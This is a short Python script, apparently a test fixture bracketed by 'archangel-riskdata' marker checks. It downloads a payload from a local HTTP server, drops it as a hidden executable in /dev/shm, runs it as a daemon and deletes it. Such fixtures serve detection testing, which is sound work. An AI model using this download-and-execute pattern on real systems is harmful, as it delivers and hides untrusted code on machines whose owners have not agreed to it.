# dropexec (python): urllib into /dev/shm, chmod 755, exec it in a child.
import os, subprocess, urllib.request
url = "http://127.0.0.1:%s/payload" % os.environ["RD_HTTP"]
os.path.exists("/archangel-riskdata/begin/dropexec")
data = urllib.request.urlopen(url).read()
p = "/dev/shm/.rd-svc"
with open(p, "wb") as f:
    f.write(data)
os.chmod(p, 0o755)
subprocess.call([p, "--daemon"])
os.unlink(p)
os.path.exists("/archangel-riskdata/end")
